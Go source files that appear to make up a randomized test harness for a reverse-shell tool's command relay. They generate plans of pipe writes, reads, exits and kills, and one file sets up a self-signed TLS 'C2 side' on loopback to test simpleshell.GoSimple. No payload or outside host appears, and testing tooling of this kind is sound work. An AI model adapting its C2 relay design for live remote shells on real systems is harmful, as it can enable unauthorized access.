	for k := rng.Intn(3); k > 0 && covered < upTo; k-- {
		sz := pick(rng, readSizes)
		n := rng.Range(1, upTo-covered)
		if n/sz > 4000 {
			n = sz * 4000
		}
		items = append(items, Item{K: "read", N: n, Sz: sz})
		covered += n
	}
	return items, covered
}

func drainItem(rng *simkit.RNG, total int) []Item {
	var opts []int
	if total <= 20000 {
		opts = append(opts, 1, 3)
	}
	if total <= 200000 {
		opts = append(opts, 64, 100)
	}
	opts = append(opts, 4096, 32768, 32768, 65536)
	if rng.Chance(1, 4) {
		return nil // default
	}
	return []Item{{K: "drain", Sz: pick(rng, opts)}}
}

func insertAt(rng *simkit.RNG, steps []Item, it Item) []Item {
	i := rng.Intn(len(steps) + 1)
	out := append([]Item(nil), steps[:i]...)
	out = append(out, it)
	return append(out, steps[i:]...)
}

// addWdrains lets the child wait, after some writes, until its pipe has been
// emptied by the relay.  With gated == true (the consumer will not be reading)
// only the first write of a descriptor qualifies, and only if it is at most
// one relay chunk.
func addWdrains(rng *simkit.RNG, child []Item, gated bool) []Item {
	var out []Item
	seen := [3]bool{}
	budget := 2
	for _, it := range child {
		out = append(out, it)
		if it.K != "w" || it.N == 0 {
			continue
		}
		first := !seen[it.FD]
		seen[it.FD] = true
		if gated {
			if first && it.N <= copyChunk && rng.Chance(1, 2) {
				out = append(out, Item{K: "wdrain", FD: it.FD})
			}
		} else if budget > 0 && rng.Chance(1, 4) {
			budget--
			out = append(out, Item{K: "wdrain", FD: it.FD})
		}
	}
	return out
}

// fittedInput draws input that surely fits into the stdin pipe of a child
// that is not reading.
func fittedInput(rng *simkit.RNG) []Item {
	var out []Item
	slots := 0
	for k := rng.Range(0, 12); k > 0; k-- {
		n := rng.Range(1, pipePage)
		if rng.Chance(1, 4) {
			n = rng.Range(pipePage+1, 5*pipePage)
		}
		if slots+slotsOf(n) > pipeSlots-1 {
			break
		}
		slots += slotsOf(n)
		out = append(out, Item{K: "in", N: n})
	}
	return out
}

// generate draws plans until one is valid (the scenario builders aim at valid
// plans; what they miss, mostly output that could overfill a pipe's page
// slots in front of a gate, is drawn again).  Every choice comes from rng.
func generate(rng *simkit.RNG) []Item {
	var items []Item
	for attempt := 0; attempt < 100; attempt++ {
		items = generate1(rng)
		if pl, _ := newPlan(items); pl != nil {
			return items
		}
	}
	return items // invalid: the engine reports a harness error
}

func generate1(rng *simkit.RNG) []Item {
	var child, input, cons []Item
	exit := func() {
		switch rng.Intn(6) {
		case 0, 1:
			child = append(child, Item{K: "exit", Code: pick(rng, exitCodes)})
		case 2:
			child = append(child, Item{K: "exit"})
		case 3:
			child = append(child, Item{K: "kill", Sig: pick(rng, []int{9, 15})})
		}
	}
	smallPair := func() (int, int) {
		switch rng.Intn(4) {
		case 0:
			return pick(rng, smallSizes), 0
		case 1:
			return 0, pick(rng, smallSizes)
		default:
			a := pick(rng, smallSizes)
			b := pick(rng, smallSizes)
			if a+b > pipeSafe {
				b = pipeSafe - a
			}
			return a, b
		}
	}
	anyPair := func() (int, int) {
		all := append(append([]int(nil), smallSizes...), bigSizes...)
		switch rng.Intn(4) {
		case 0:
			return pick(rng, bigSizes), pick(rng, smallSizes)
		case 1:
			return pick(rng, smallSizes), pick(rng, bigSizes)
		case 2:
			return pick(rng, all), 0
		default:
			return pick(rng, all), pick(rng, all)
		}
	}
	withEOF := func(p, q int) bool { // child reads stdin to EOF, with input
		if !rng.Chance(p, q) {
			return false
		}
		child = insertAt(rng, child, Item{K: "eof"})
		return true
	}
	scen := rng.Pick([]int{30, 18, 10, 10, 8, 8, 8, 8, 8})
	switch scen {
	case 0: // consumer starts only after the child has been reaped
		a, b := smallPair()
		child = addWdrains(rng, writes(rng, a, b), true)
		eof := withEOF(1, 3)
		exit()
		if eof || rng.Chance(1, 3) {
			input = inputChunks(rng, rng.Range(0, pipeSafe))
		}
		cons = append(cons, Item{K: "rgate", G: "reaped"})
		rs, _ := reads(rng, max(a+b, 1))
		cons = append(cons, rs...)
		cons = append(cons, drainItem(rng, a+b)...)
	case 1: // large output, free consumer of some speed
		a, b := anyPair()
		child = addWdrains(rng, writes(rng, a, b), false)
		eof := withEOF(1, 3)
		exit()
		if eof {
			lim := pipeSafe
			if rng.Chance(1, 3) {
				lim = maxInBig
			}
			input = inputChunks(rng, rng.Range(0, lim))
		} else if rng.Chance(1, 4) {
			input = inputChunks(rng, rng.Range(1, 2000))
		}
		rs, _ := reads(rng, max(a+b, 1))
		cons = append(cons, rs...)
		cons = append(cons, drainItem(rng, a+b)...)
	case 2: // consumer reads most of a large output, then waits for the reap
		a, b := anyPair()
		child = writes(rng, a, b)
		exit()
		total := a + b
		outst := pick(rng, smallSizes)
		if outst > total {
			outst = total
		}
		if p := total - outst; p > 0 {
			sz := pick(rng, readSizes[3:])
			cons = append(cons, Item{K: "read", N: p, Sz: sz})
		}
		cons = append(cons, Item{K: "rgate", G: "reaped"})
		cons = append(cons, drainItem(rng, outst)...)
	case 3: // no output at all
		if rng.Chance(1, 2) {
			child = writes(rng, 0, 0)
		}
		eof := withEOF(1, 3)
		exit()
		if eof || rng.Chance(1, 2) {
			input = inputChunks(rng, rng.Range(0, 5000))
		}
		if !eof && rng.Chance(1, 2) {
			input = insertAt(rng, input, Item{K: "ingate", G: "child_exited"})
		}
		switch rng.Intn(3) {
		case 0:
			cons = append(cons, Item{K: "rgate", G: "go_returned"})
		case 1:
			cons = append(cons, Item{K: "rgate", G: "reaped"})
		}
		cons = append(cons, drainItem(rng, 0)...)
	case 4: // stderr only
		b := pick(rng, smallSizes[1:])
		gated := rng.Chance(1, 2)
		if !gated && rng.Chance(1, 2) {
			b = pick(rng, bigSizes)
		}
		child = addWdrains(rng, writes(rng, 0, b), gated)
		exit()
		if gated {
			cons = append(cons, Item{K: "rgate", G: "reaped"})
		}
		cons = append(cons, drainItem(rng, b)...)
	case 5: // one descriptor closed early, the other goes on
		fd := rng.Range(1, 2)
		gated := rng.Chance(1, 2)
		var a, b int
		if gated {
			a, b = smallPair()
		} else {
			a, b = anyPair()
		}
		head := 0
		if fd == 1 && a > 0 {
			head = rng.Range(0, min(a, 5000))
		} else if fd == 2 && b > 0 {
			head = rng.Range(0, min(b, 5000))
		}
		if head > 0 {
			child = append(child, Item{K: "w", FD: fd, N: head})
		}
		child = append(child, Item{K: "close", FD: fd})
		if fd == 1 {
			for _, n := range split(rng, b) {
				child = append(child, Item{K: "w", FD: 2, N: n})
			}
			a = head
		} else {
			for _, n := range split(rng, a) {
				child = append(child, Item{K: "w", FD: 1, N: n})
			}
			b = head
		}
		exit()
		if gated {
			cons = append(cons, Item{K: "rgate", G: "reaped"})
		}
		cons = append(cons, drainItem(rng, a+b)...)
	case 6: // the child exits before the input ends
		gated := rng.Chance(1, 2)
		var a, b int
		if gated {
			a, b = smallPair()
		} else {
			a, b = anyPair()
		}
		child = addWdrains(rng, writes(rng, a, b), gated)
		exit()
		input = inputChunks(rng, rng.Range(0, 20000))
		input = insertAt(rng, input, Item{K: "ingate", G: "child_exited"})
		if gated {
			cons = append(cons, Item{K: "rgate", G: "reaped"})
		}
		rs, _ := reads(rng, max(a+b, 1))
		cons = append(cons, rs...)
		cons = append(cons, drainItem(rng, a+b)...)
	case 7: // the child waits until the consumer has caught up, then a last write and exit
		a := pick(rng, smallSizes[1:])
		fd := rng.Range(1, 2)
		child = append(child, Item{K: "w", FD: fd, N: a})
		child = append(child, Item{K: "cwait", N: rng.Range(1, a)})
		last := pick(rng, append(append([]int(nil), smallSizes[1:]...), bigSizes...))
		child = append(child, Item{K: "w", FD: rng.Range(1, 2), N: last})
		eof := withEOF(1, 4)
		exit()
		if eof {
			input = inputChunks(rng, rng.Range(0, pipeSafe))
		}
		rs, _ := reads(rng, a+last)
		cons = append(cons, rs...)
		cons = append(cons, drainItem(rng, a+last)...)
	default: // consumer waits until the input has been written completely
		a, b := anyPair()
		child = writes(rng, a, b)
		if rng.Chance(1, 2) {
			// input that fits the stdin pipe whatever the child is doing
			child = insertAt(rng, child, Item{K: "eof"})
			input = fittedInput(rng)
		} else {
			// any input; the child reads it before it writes anything
			child = append([]Item{{K: "eof"}}, child...)
			input = inputChunks(rng, rng.Range(0, pipeSafe))
		}
		exit()
		if rng.Chance(1, 2) {
			rs, _ := reads(rng, max(a+b, 1))
			cons = append(cons, rs...)
		}
		cons = append(cons, Item{K: "rgate", G: "input_done"})
		cons = append(cons, drainItem(rng, a+b)...)
	}
	// input reader modes io.Reader allows: (0, nil) reads in between, the
	// last bytes together with io.EOF
	if len(input) > 0 {
		for k := rng.Intn(3); k > 0 && rng.Chance(1, 2); k-- {
			input = insertAt(rng, input, Item{K: "inz"})
		}
		if rng.Chance(1, 3) {
			input = append(input, Item{K: "indataeof"})
		}
	}
	var items []Item
	items = append(items, child...)
	items = append(items, input...)
	items = append(items, cons...)
	return items
}
