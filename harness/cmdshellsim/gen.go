package cmdshellsim

import "github.com/magisterquis/curlrevshell/verifharness/simkit"

var (
	smallSizes = []int{0, 1, 2, 25, 26, 27, 100, 1000, 4095, 4096, 4097, 20000, 32767, 32768, 32769, 50000, 60000}
	bigSizes   = []int{65535, 65536, 65537, 70000, 98304, 131072, 131073, 200000, 262145}
	readSizes  = []int{1, 2, 7, 64, 512, 4096, 32768, 65536}
	exitCodes  = []int{1, 2, 3, 7, 42, 125}
)

func pick(rng *simkit.RNG, xs []int) int { return xs[rng.Intn(len(xs))] }

// split cuts total into 1..4 write sizes.
func split(rng *simkit.RNG, total int) []int {
	if total == 0 {
		if rng.Chance(1, 2) {
			return nil
		}
		return []int{0}
	}
	k := rng.Range(1, 4)
	var out []int
	rest := total
	for i := 1; i < k && rest > 1; i++ {
		n := rng.Range(1, rest-1)
		if rng.Chance(1, 3) { // a small head, a large tail
			n = rng.Range(1, min(rest-1, 100))
		}
		out = append(out, n)
		rest -= n
	}
	return append(out, rest)
}

// writes interleaves the pieces of both descriptors at random.
func writes(rng *simkit.RNG, t1, t2 int) []Item {
	a, b := split(rng, t1), split(rng, t2)
	var out []Item
	for len(a) > 0 || len(b) > 0 {
		if len(b) == 0 || (len(a) > 0 && rng.Chance(1, 2)) {
			out = append(out, Item{K: "w", FD: 1, N: a[0]})
			a = a[1:]
		} else {
			out = append(out, Item{K: "w", FD: 2, N: b[0]})
			b = b[1:]
		}
	}
	return out
}

func inputChunks(rng *simkit.RNG, total int) []Item {
	var out []Item
	for total > 0 {
		n := rng.Range(1, min(total, maxChunk))
		if rng.Chance(1, 3) {
			n = min(total, pick(rng, []int{1, 2, 100, 4096, 32768, 65536}))
		}
		out = append(out, Item{K: "in", N: n})
		total -= n
	}
	return out
}

// reads builds consumer read items covering at most upTo bytes.
func reads(rng *simkit.RNG, upTo int) (items []Item, covered int) {
	for k := rng.Intn(3); k > 0 && covered < upTo; k-- {
		sz := pick(rng, readSizes)
		n := rng.Range(1, upTo-covered)
		if n/sz > 4000 {
			n = sz * 4000
		}
		items = append(items, Item{K: "read", N: n, Sz: sz})
		covered += n
	}
	return items, covered
}

func drainItem(rng *simkit.RNG, total int) []Item {
	var opts []int
	if total <= 20000 {
		opts = append(opts, 1, 3)
	}
	if total <= 200000 {
		opts = append(opts, 64, 100)
	}
	opts = append(opts, 4096, 32768, 32768, 65536)
	if rng.Chance(1, 4) {
		return nil // default
	}
	return []Item{{K: "drain", Sz: pick(rng, opts)}}
}

func insertAt(rng *simkit.RNG, steps []Item, it Item) []Item {
	i := rng.Intn(len(steps) + 1)
	out := append([]Item(nil), steps[:i]...)
	out = append(out, it)
	return append(out, steps[i:]...)
}

// addWdrains lets the child wait, after some writes, until its pipe has been
// emptied by the relay.  With gated == true (the consumer will not be reading)
// only the first write of a descriptor qualifies, and only if it is at most
// one relay chunk.
func addWdrains(rng *simkit.RNG, child []Item, gated bool) []Item {
	var out []Item
	seen := [3]bool{}
	budget := 2
	for _, it := range child {
		out = append(out, it)
		if it.K != "w" || it.N == 0 {
			continue
		}
		first := !seen[it.FD]
		seen[it.FD] = true
		if gated {
			if first && it.N <= copyChunk && rng.Chance(1, 2) {
				out = append(out, Item{K: "wdrain", FD: it.FD})
			}
		} else if budget > 0 && rng.Chance(1, 4) {
			budget--
			out = append(out, Item{K: "wdrain", FD: it.FD})
		}
	}
	return out
}

// fittedInput draws input that surely fits into the stdin pipe of a child
// that is not reading.
func fittedInput(rng *simkit.RNG) []Item {
	var out []Item
	slots := 0
	for k := rng.Range(0, 12); k > 0; k-- {
		n := rng.Range(1, pipePage)
		if rng.Chance(1, 4) {
			n = rng.Range(pipePage+1, 5*pipePage)
		}
		if slots+slotsOf(n) > pipeSlots-1 {
			break
		}
		slots += slotsOf(n)
		out = append(out, Item{K: "in", N: n})
	}
	return out
}

// generate draws plans until one is valid (the scenario builders aim at valid
// plans; what they miss, mostly output that could overfill a pipe's page
// slots in front of a gate, is drawn again).  Every choice comes from rng.
func generate(rng *simkit.RNG, idx int64) (Config, []Item) {
	var items []Item
	cfg := Config{V: 1}
	// One run in twelve is of the small family "the command cannot be
	// started" (nostart.go).
	if rng.Chance(1, 12) {
		return generateNoStart(rng)
	}
	// Some runs go through simpleshell.GoSimple and a C2 side served by the
	// worker.  Those whose consumer naps in real time take seconds instead of
	// milliseconds: a worker makes them often among its first runs (so that
	// even a short budget sees several) and rarely afterwards (so that the
	// other plans keep their share of a long one).
	napDen := 300
	if idx >= 0 && idx < napEarlyRuns {
		napDen = 12
	}
	nap := rng.Chance(1, napDen)
	if nap || rng.Chance(1, 10) {
		cfg.Fam = famGoSimple
		cfg.Win = pick(rng, []int{0, 0, 65536, 262144})
		cfg.FPre = rng.Chance(1, 2)
		for attempt := 0; attempt < 100; attempt++ {
			if nap {
				items = generateGSNap(rng, cfg)
			} else {
				items = generateGS(rng, cfg)
			}
			if pl, _ := newPlan(cfg, items); pl != nil {
				return cfg, items
			}
		}
		return cfg, items
	}
	for attempt := 0; attempt < 100; attempt++ {
		items = generate1(rng)
		if pl, _ := newPlan(cfg, items); pl != nil {
			return cfg, items
		}
	}
	return cfg, items // invalid: the engine reports a harness error
}

// napEarlyRuns: among a worker's first this-many runs one in twelve has the
// real-time nap, afterwards one in three hundred.
const napEarlyRuns = 64

// gsCapacity is a generous guess of how much output can be in flight between
// the shell and a C2 side that is not reading (flow-control window plus
// whatever the HTTP client, TLS and the relay hold).  Only the aim of the
// stimulus depends on it: a plan that writes more than this keeps bytes in the
// kernel pipes of the command while the consumer stands still.
func gsCapacity(cfg Config) int {
	win := cfg.Win
	if win == 0 {
		win = 1 << 20
	}
	return win + 160000
}

func exitItem(rng *simkit.RNG) []Item {
	switch rng.Intn(6) {
	case 0, 1:
		return []Item{{K: "exit", Code: pick(rng, exitCodes)}}
	case 2:
		return []Item{{K: "exit"}}
	case 3:
		return []Item{{K: "kill", Sig: pick(rng, []int{9, 15})}}
	}
	return nil
}

// gsInput: optional input while the command runs (it does not read it: at
// most what the stdin pipe surely holds), then the input that follows the
// command's exit (see newPlan: without it Wait would rightly never return).
func gsInput(rng *simkit.RNG) []Item {
	var input []Item
	if rng.Chance(1, 3) {
		input = fittedInput(rng)
	}
	input = append(input, Item{K: "ingate", G: "child_exited"})
	for k := rng.Range(1, 2); k > 0; k-- {
		input = append(input, Item{K: "in", N: pick(rng, []int{1, 1, 2, 100, 4096, 40000})})
	}
	return input
}

// bigWrites cuts total into writes of at most gsMaxWrite for one descriptor.
func bigWrites(rng *simkit.RNG, fd, total int) []Item {
	var out []Item
	for total > 0 {
		n := total
		if n > 65536 && rng.Chance(1, 2) {
			n = rng.Range(1, total)
		}
		if rng.Chance(1, 4) {
			n = min(total, pick(rng, []int{1, 100, 4096, 65536, 65537, 300000}))
		}
		n = min(n, gsMaxWrite)
		out = append(out, Item{K: "w", FD: fd, N: n})
		total -= n
	}
	return out
}

// generateGSNap: the consumer is the slowest party while the command runs, the
// command writes more than can be in flight and exits at once, and the
// consumer then stands still for 1.5-2.5 s of real time, longer than any
// plausible grace period after the command's exit, before it reads on.
func generateGSNap(rng *simkit.RNG, cfg Config) []Item {
	capacity := gsCapacity(cfg)
	total := capacity + rng.Range(100000, 900000)
	var a, b int
	switch rng.Intn(4) {
	case 0:
		a = total
	case 1:
		b = total
	default:
		a = rng.Range(70000, total-70000)
		b = total - a
	}
	var child []Item
	wa, wb := bigWrites(rng, 1, a), bigWrites(rng, 2, b)
	switch rng.Intn(3) {
	case 0: // one descriptor after the other
		if rng.Chance(1, 2) {
			child = append(append(child, wa...), wb...)
		} else {
			child = append(append(child, wb...), wa...)
		}
	default: // interleaved
		for len(wa) > 0 || len(wb) > 0 {
			if len(wb) == 0 || (len(wa) > 0 && rng.Chance(1, 2)) {
				child = append(child, wa[0])
				wa = wa[1:]
			} else {
				child = append(child, wb[0])
				wb = wb[1:]
			}
		}
	}
	child = append(child, exitItem(rng)...)
	var cons []Item
	if rng.Chance(1, 3) {
		rs, _ := reads(rng, total/4)
		cons = append(cons, rs...)
	}
	if rng.Chance(3, 4) {
		// reads when the command is seen blocked writing
		cons = append(cons, Item{K: "readx", G: "wblock", Sz: pick(rng, []int{4096, 8192, 16384, 32768}), N: pick(rng, []int{1000, 2000, 4000})})
	} else {
		// reads at a pace of 1.6 to 4 MB/s
		pace := [][2]int{{4096, 2000}, {8192, 2000}, {16384, 4000}, {8192, 5000}, {2048, 1000}, {32768, 8000}}[rng.Intn(6)]
		cons = append(cons, Item{K: "readx", Sz: pace[0], N: pace[1]})
	}
	cons = append(cons, Item{K: "rgate", G: "reaped"})
	cons = append(cons, Item{K: "nap", N: rng.Range(1500, 2500)})
	if rng.Chance(1, 3) {
		rs, _ := reads(rng, 100000)
		cons = append(cons, rs...)
	}
	if rng.Chance(3, 4) {
		cons = append(cons, Item{K: "drain", Sz: pick(rng, []int{4096, 32768, 32768, 65536})})
	}
	var items []Item
	items = append(items, child...)
	items = append(items, gsInput(rng)...)
	items = append(items, cons...)
	return items
}

// generateGS: plans of the GoSimple family whose waits are all observed
// states.
func generateGS(rng *simkit.RNG, cfg Config) []Item {
	var child, cons []Item
	all := append(append([]int(nil), smallSizes...), bigSizes...)
	scen := rng.Pick([]int{30, 25, 25, 10, 10})
	a, b := 0, 0
	switch scen {
	case 0: // the consumer starts only after the command has been reaped
		switch rng.Intn(3) {
		case 0:
			a = pick(rng, smallSizes)
		case 1:
			b = pick(rng, smallSizes)
		default:
			a, b = pick(rng, smallSizes), pick(rng, smallSizes)
			if a+b > pipeSafe {
				b = pipeSafe - a
			}
		}
		child = writes(rng, a, b)
		child = append(child, exitItem(rng)...)
		cons = append(cons, Item{K: "rgate", G: "reaped"})
		rs, _ := reads(rng, max(a+b, 1))
		cons = append(cons, rs...)
	case 1: // free consumer of some speed, any amount of output
		a, b = pick(rng, all), pick(rng, all)
		if rng.Chance(1, 3) {
			a += rng.Range(0, gsCapacity(cfg))
		}
		if rng.Chance(1, 4) {
			a = 0
		} else if rng.Chance(1, 4) {
			b = 0
		}
		child = append(child, bigWrites(rng, 1, a)...)
		for _, w := range bigWrites(rng, 2, b) {
			child = insertAt(rng, child, w)
		}
		child = append(child, exitItem(rng)...)
		rs, _ := reads(rng, max(a+b, 1))
		cons = append(cons, rs...)
	case 2: // the consumer is the slowest party until the command has exited
		a, b = pick(rng, all), pick(rng, all)
		if rng.Chance(2, 3) {
			a += rng.Range(0, gsCapacity(cfg)+300000)
		}
		if rng.Chance(1, 4) {
			a, b = b, a
		}
		child = append(child, bigWrites(rng, 1, a)...)
		for _, w := range bigWrites(rng, 2, b) {
			child = insertAt(rng, child, w)
		}
		child = append(child, exitItem(rng)...)
		if rng.Chance(1, 2) {
			cons = append(cons, Item{K: "readx", G: "wblock", Sz: pick(rng, []int{4096, 8192, 32768, 65536}), N: pick(rng, []int{200, 1000, 2000})})
		} else {
			pace := [][2]int{{4096, 500}, {8192, 1000}, {512, 0}, {65536, 0}, {32768, 2000}}[rng.Intn(5)]
			cons = append(cons, Item{K: "readx", Sz: pace[0], N: pace[1]})
		}
		if rng.Chance(1, 2) {
			cons = append(cons, Item{K: "rgate", G: "reaped"})
		}
	case 3: // no output at all
		if rng.Chance(1, 2) {
			child = writes(rng, 0, 0)
		}
		child = append(child, exitItem(rng)...)
		switch rng.Intn(3) {
		case 0:
			cons = append(cons, Item{K: "rgate", G: "go_returned"})
		case 1:
			cons = append(cons, Item{K: "rgate", G: "reaped"})
		}
	default: // the command waits until the consumer has caught up, then a last write and exit
		a = pick(rng, smallSizes[1:])
		fd := rng.Range(1, 2)
		child = append(child, Item{K: "w", FD: fd, N: a})
		child = append(child, Item{K: "cwait", N: rng.Range(1, a)})
		last := pick(rng, all[1:])
		child = append(child, Item{K: "w", FD: rng.Range(1, 2), N: last})
		child = append(child, exitItem(rng)...)
		rs, _ := reads(rng, a+last)
		cons = append(cons, rs...)
		b = last
	}
	cons = append(cons, drainItem(rng, a+b)...)
	var items []Item
	items = append(items, child...)
	items = append(items, gsInput(rng)...)
	items = append(items, cons...)
	return items
}

func generate1(rng *simkit.RNG) []Item {
	var child, input, cons []Item
	exit := func() {
		switch rng.Intn(6) {
		case 0, 1:
			child = append(child, Item{K: "exit", Code: pick(rng, exitCodes)})
		case 2:
			child = append(child, Item{K: "exit"})
		case 3:
			child = append(child, Item{K: "kill", Sig: pick(rng, []int{9, 15})})
		}
	}
	smallPair := func() (int, int) {
		switch rng.Intn(4) {
		case 0:
			return pick(rng, smallSizes), 0
		case 1:
			return 0, pick(rng, smallSizes)
		default:
			a := pick(rng, smallSizes)
			b := pick(rng, smallSizes)
			if a+b > pipeSafe {
				b = pipeSafe - a
			}
			return a, b
		}
	}
	anyPair := func() (int, int) {
		all := append(append([]int(nil), smallSizes...), bigSizes...)
		switch rng.Intn(4) {
		case 0:
			return pick(rng, bigSizes), pick(rng, smallSizes)
		case 1:
			return pick(rng, smallSizes), pick(rng, bigSizes)
		case 2:
			return pick(rng, all), 0
		default:
			return pick(rng, all), pick(rng, all)
		}
	}
	withEOF := func(p, q int) bool { // child reads stdin to EOF, with input
		if !rng.Chance(p, q) {
			return false
		}
		child = insertAt(rng, child, Item{K: "eof"})
		return true
	}
	scen := rng.Pick([]int{30, 18, 10, 10, 8, 8, 8, 8, 8})
	switch scen {
	case 0: // consumer starts only after the child has been reaped
		a, b := smallPair()
		child = addWdrains(rng, writes(rng, a, b), true)
		eof := withEOF(1, 3)
		exit()
		if eof || rng.Chance(1, 3) {
			input = inputChunks(rng, rng.Range(0, pipeSafe))
		}
		cons = append(cons, Item{K: "rgate", G: "reaped"})
		rs, _ := reads(rng, max(a+b, 1))
		cons = append(cons, rs...)
		cons = append(cons, drainItem(rng, a+b)...)
	case 1: // large output, free consumer of some speed
		a, b := anyPair()
		child = addWdrains(rng, writes(rng, a, b), false)
		eof := withEOF(1, 3)
		exit()
		if eof {
			lim := pipeSafe
			if rng.Chance(1, 3) {
				lim = maxInBig
			}
			input = inputChunks(rng, rng.Range(0, lim))
		} else if rng.Chance(1, 4) {
			input = inputChunks(rng, rng.Range(1, 2000))
		}
		rs, _ := reads(rng, max(a+b, 1))
		cons = append(cons, rs...)
		cons = append(cons, drainItem(rng, a+b)...)
	case 2: // consumer reads most of a large output, then waits for the reap
		a, b := anyPair()
		child = writes(rng, a, b)
		exit()
		total := a + b
		outst := pick(rng, smallSizes)
		if outst > total {
			outst = total
		}
		if p := total - outst; p > 0 {
			sz := pick(rng, readSizes[3:])
			cons = append(cons, Item{K: "read", N: p, Sz: sz})
		}
		cons = append(cons, Item{K: "rgate", G: "reaped"})
		cons = append(cons, drainItem(rng, outst)...)
	case 3: // no output at all
		if rng.Chance(1, 2) {
			child = writes(rng, 0, 0)
		}
		eof := withEOF(1, 3)
		exit()
		if eof || rng.Chance(1, 2) {
			input = inputChunks(rng, rng.Range(0, 5000))
		}
		if !eof && rng.Chance(1, 2) {
			input = insertAt(rng, input, Item{K: "ingate", G: "child_exited"})
		}
		switch rng.Intn(3) {
		case 0:
			cons = append(cons, Item{K: "rgate", G: "go_returned"})
		case 1:
			cons = append(cons, Item{K: "rgate", G: "reaped"})
		}
		cons = append(cons, drainItem(rng, 0)...)
	case 4: // stderr only
		b := pick(rng, smallSizes[1:])
		gated := rng.Chance(1, 2)
		if !gated && rng.Chance(1, 2) {
			b = pick(rng, bigSizes)
		}
		child = addWdrains(rng, writes(rng, 0, b), gated)
		exit()
		if gated {
			cons = append(cons, Item{K: "rgate", G: "reaped"})
		}
		cons = append(cons, drainItem(rng, b)...)
	case 5: // one descriptor closed early, the other goes on
		fd := rng.Range(1, 2)
		gated := rng.Chance(1, 2)
		var a, b int
		if gated {
			a, b = smallPair()
		} else {
			a, b = anyPair()
		}
		head := 0
		if fd == 1 && a > 0 {
			head = rng.Range(0, min(a, 5000))
		} else if fd == 2 && b > 0 {
			head = rng.Range(0, min(b, 5000))
		}
		if head > 0 {
			child = append(child, Item{K: "w", FD: fd, N: head})
		}
		child = append(child, Item{K: "close", FD: fd})
		if fd == 1 {
			for _, n := range split(rng, b) {
				child = append(child, Item{K: "w", FD: 2, N: n})
			}
			a = head
		} else {
			for _, n := range split(rng, a) {
				child = append(child, Item{K: "w", FD: 1, N: n})
			}
			b = head
		}
		exit()
		if gated {
			cons = append(cons, Item{K: "rgate", G: "reaped"})
		}
		cons = append(cons, drainItem(rng, a+b)...)
	case 6: // the child exits before the input ends
		gated := rng.Chance(1, 2)
		var a, b int
		if gated {
			a, b = smallPair()
		} else {
			a, b = anyPair()
		}
		child = addWdrains(rng, writes(rng, a, b), gated)
		exit()
		input = inputChunks(rng, rng.Range(0, 20000))
		input = insertAt(rng, input, Item{K: "ingate", G: "child_exited"})
		if gated {
			cons = append(cons, Item{K: "rgate", G: "reaped"})
		}
		rs, _ := reads(rng, max(a+b, 1))
		cons = append(cons, rs...)
		cons = append(cons, drainItem(rng, a+b)...)
	case 7: // the child waits until the consumer has caught up, then a last write and exit
		a := pick(rng, smallSizes[1:])
		fd := rng.Range(1, 2)
		child = append(child, Item{K: "w", FD: fd, N: a})
		child = append(child, Item{K: "cwait", N: rng.Range(1, a)})
		last := pick(rng, append(append([]int(nil), smallSizes[1:]...), bigSizes...))
		child = append(child, Item{K: "w", FD: rng.Range(1, 2), N: last})
		eof := withEOF(1, 4)
		exit()
		if eof {
			input = inputChunks(rng, rng.Range(0, pipeSafe))
		}
		rs, _ := reads(rng, a+last)
		cons = append(cons, rs...)
		cons = append(cons, drainItem(rng, a+last)...)
	default: // consumer waits until the input has been written completely
		a, b := anyPair()
		child = writes(rng, a, b)
		if rng.Chance(1, 2) {
			// input that fits the stdin pipe whatever the child is doing
			child = insertAt(rng, child, Item{K: "eof"})
			input = fittedInput(rng)
		} else {
			// any input; the child reads it before it writes anything
			child = append([]Item{{K: "eof"}}, child...)
			input = inputChunks(rng, rng.Range(0, pipeSafe))
		}
		exit()
		if rng.Chance(1, 2) {
			rs, _ := reads(rng, max(a+b, 1))
			cons = append(cons, rs...)
		}
		cons = append(cons, Item{K: "rgate", G: "input_done"})
		cons = append(cons, drainItem(rng, a+b)...)
	}
	// input reader modes io.Reader allows: (0, nil) reads in between, the
	// last bytes together with io.EOF
	if len(input) > 0 {
		for k := rng.Intn(3); k > 0 && rng.Chance(1, 2); k-- {
			input = insertAt(rng, input, Item{K: "inz"})
		}
		if rng.Chance(1, 3) {
			input = append(input, Item{K: "indataeof"})
		}
	}
	var items []Item
	items = append(items, child...)
	items = append(items, input...)
	items = append(items, cons...)
	return items
}
