package cmdshellsim

import (
	"context"
	"crypto/ecdsa"
	"crypto/elliptic"
	"crypto/rand"
	"crypto/sha256"
	"crypto/tls"
	"crypto/x509"
	"crypto/x509/pkix"
	"encoding/base64"
	"encoding/json"
	"fmt"
	"io"
	"log"
	"math/big"
	"net"
	"net/http"
	"os"
	"sync"
	"sync/atomic"
	"time"

	"github.com/magisterquis/curlrevshell/lib/simpleshell"
)

// The GoSimple family.  The run goes through simpleshell.GoSimple, the entry
// point the program really uses: it builds the command itself, wraps it in a
// CmdShell and connects that to a C2 over HTTPS.  The worker serves the C2
// side on loopback: one request whose body is the shell's output (the handler
// is the plan's consumer) and whose response body is the shell's input (fed by
// the plan's input items).  The puppet is the command; it gets its plan in its
// only argument.

// gsIdent is the worker's TLS identity (made once; nothing of it is ever in a
// trace).
type gsIdent struct {
	cert tls.Certificate
	fp   string // base64(sha256(SubjectPublicKeyInfo)): what curl --pinnedpubkey takes
	err  error
}

var (
	gsIdentOnce sync.Once
	gsID        gsIdent
)

func gsIdentity() *gsIdent {
	gsIdentOnce.Do(func() {
		key, err := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
		if err != nil {
			gsID.err = err
			return
		}
		tmpl := &x509.Certificate{
			SerialNumber: big.NewInt(1),
			Subject:      pkix.Name{CommonName: "verif c14"},
			NotBefore:    time.Now().Add(-time.Hour),
			NotAfter:     time.Now().Add(240 * time.Hour),
			KeyUsage:     x509.KeyUsageDigitalSignature,
			ExtKeyUsage:  []x509.ExtKeyUsage{x509.ExtKeyUsageServerAuth},
			IPAddresses:  []net.IP{net.IPv4(127, 0, 0, 1)},
		}
		der, err := x509.CreateCertificate(rand.Reader, tmpl, tmpl, &key.PublicKey, key)
		if err != nil {
			gsID.err = err
			return
		}
		spki, err := x509.MarshalPKIXPublicKey(&key.PublicKey)
		if err != nil {
			gsID.err = err
			return
		}
		sum := sha256.Sum256(spki)
		gsID.cert = tls.Certificate{Certificate: [][]byte{der}, PrivateKey: key}
		gsID.fp = base64.StdEncoding.EncodeToString(sum[:])
	})
	return &gsID
}

// gsServer is the C2 side of one run.
type gsServer struct {
	r        *runner
	ob       *observed
	srv      *http.Server
	ln       net.Listener
	started  atomic.Bool
	extra    atomic.Int64 // requests beyond the first
